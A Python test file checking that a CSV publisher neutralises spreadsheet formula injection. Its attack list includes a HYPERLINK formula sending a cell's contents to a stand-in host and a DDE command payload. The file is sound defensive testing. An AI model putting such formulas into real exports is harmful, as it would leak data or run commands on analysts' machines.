"""CSV formula injection (issue 16): organisation, place, provider and source names from
the input reached 22 published CSVs as written (``=HYPERLINK(...``), to run when an
analyst opened them in a spreadsheet."""

from __future__ import annotations

import csv

import ibis

from openphm.disclosure import gate
from openphm.publish.writer import neutralise, write_published

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_every_text_cell_a_spreadsheet_would_run_is_published_as_text(tmp_path):
    names = [*ATTACKS, "\tTAB", "Place A", "-5", "-1.25"]
    table = ibis.memtable({"place": names, "people": [40] * len(names)})
    written = write_published(tmp_path, gate("places", table, keys=["place"], counts=["people"]))
    with written.path.open(newline="") as fh:
        cells = {row["place"] for row in csv.DictReader(fh)}
    for attack in [*ATTACKS, "\tTAB"]:
        assert attack not in cells and "'" + attack in cells
    assert {"Place A", "-5", "-1.25"} <= cells  # names and numbers stay as they were


def test_neutralise_leaves_everything_else_alone():
    assert neutralise("X12A") == "X12A"
    assert neutralise(42) == 42
    assert neutralise(None) is None
    assert neutralise("=1+1") == "'=1+1"
